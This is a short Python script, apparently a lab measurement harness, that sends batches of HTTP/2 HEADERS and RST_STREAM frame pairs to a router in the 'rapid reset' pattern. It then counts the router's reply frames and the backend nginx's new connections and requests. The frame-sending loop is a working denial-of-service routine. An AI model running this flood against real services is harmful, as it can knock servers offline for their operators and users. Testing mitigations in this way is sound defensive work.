# Rapid reset, measured: N HEADERS+RST_STREAM pairs on one connection in batches of 100, then
# read everything the router sent for 3 s and count frame types; backend accepts/requests.
import sys
from common import *
from h2_attacks import nginx_status, drain
n = int(sys.argv[1])
a0, r0 = nginx_status()
t = h2conn(timeout=5)
t.sendall(frame(SETTINGS, ACK, 0))
sid = 1
chunks = []
t0 = time.time()
while sid < 2 * n:
    batch = b""
    for _ in range(100):
        batch += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block()) + frame(RST, 0, sid, struct.pack(">I", 8))
        sid += 2
    try:
        t.sendall(batch)
    except OSError as e:
        print("send failed after", (sid-1)//2, "pairs:", e.__class__.__name__); break
    if not drain(t, chunks):
        print("closed by router after", (sid-1)//2, "pairs"); break
el = time.time() - t0
t.settimeout(3)
try:
    while True:
        d = t.recv(65536)
        if not d: break
        chunks.append(d)
except Exception as e:
    pass
b = b"".join(chunks); i = 0; counts = {}; goaway = None
while i + 9 <= len(b):
    ln = int.from_bytes(b[i:i+3], "big"); ty = b[i+3]
    counts[ty] = counts.get(ty, 0) + 1
    if ty == GOAWAY: goaway = (int.from_bytes(b[i+9:i+13], "big"), int.from_bytes(b[i+13:i+17], "big"))
    i += 9 + ln
time.sleep(1)
a1, r1 = nginx_status()
print(f"{(sid-1)//2} pairs sent in {el:.2f}s; frames from router by type {counts} "
      f"(0=DATA 1=HEADERS 3=RST 7=GOAWAY); GOAWAY (last_stream_id, code)={goaway}; "
      f"backend: {a1-a0} new connections, {r1-r0} requests")
